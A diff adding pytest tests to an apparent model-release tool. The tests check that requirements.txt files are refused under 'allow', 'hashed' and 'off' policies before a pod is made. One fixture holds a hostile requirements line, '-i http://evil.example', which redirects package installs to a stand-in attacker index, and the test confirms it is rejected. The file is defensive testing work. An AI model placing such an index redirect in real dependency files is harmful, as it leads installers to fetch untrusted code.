@@ -7,7 +7,7 @@ from typing import Any
 import pytest
 
 from watcher.control.releases import Releases
-from watcher.core.types import Entry, ModelId, ModelVersion, StoredObject
+from watcher.core.types import Entry, ModelId, ModelVersion, Release, StoredObject
 from watcher.errors import Rejected
 
 IRIS = ModelId("team", "iris")
@@ -163,3 +163,48 @@ def test_wanted_is_the_version_that_is_not_on_trial() -> None:
     found = two_versions()
     assert releases.of(found)
     assert releases.wanted(found) == "v1"
+
+
+def requiring(text: str) -> tuple[Files, Entry]:
+    """Return a bucket and a model whose version has a requirements.txt."""
+    key = "team/iris/v1/requirements.txt"
+    version = dataclasses.replace(entry().versions[0], requirements=stored(key))
+    return Files(values="", **{key: text}), Entry(IRIS, (version,), stored("values"))
+
+
+def policy(word: str) -> dict[str, Any]:
+    return {"download": {"requirements": word}}
+
+
+@pytest.mark.parametrize(
+    ("word", "text", "problem"),
+    [
+        ("allow", "x\n-i http://evil.example", "requirements.txt, line 2: options are not allowed"),
+        ("hashed", "x==1", r"requirements.txt, line 1 \(x\): an exact version and a --hash are needed"),
+        ("off", "x==1", "requirements.txt is not permitted"),
+    ],
+)
+def test_of_requirements_that_no_server_installs_are_rejected_before_a_pod_is_made(
+    word: str, text: str, problem: str
+) -> None:
+    bucket, model = requiring(text)
+    with pytest.raises(Rejected, match=f"^team/iris/v1/{problem}") as caught:
+        Releases(bucket, policy(word)).of(model)
+    assert caught.value.reason == "RequirementsRefused"
+    assert "evil" not in str(caught.value)
+
+
+def test_of_permitted_requirements_are_read_once() -> None:
+    bucket, model = requiring("x>=1\n")
+    releases = Releases(bucket, {})
+    for _ in range(2):
+        releases.keep([model])
+        assert releases.of(model)
+    assert bucket.reads == ["values", "team/iris/v1/requirements.txt"]
+
+
+def test_permitted_leaves_out_a_former_release_with_requirements_where_none_are_permitted() -> None:
+    _, model = requiring("")
+    former = Release(model.versions[0])
+    assert Releases(Files(), policy("hashed")).permitted(former)
+    assert Releases(Files(), policy("off")).permitted(former) is None
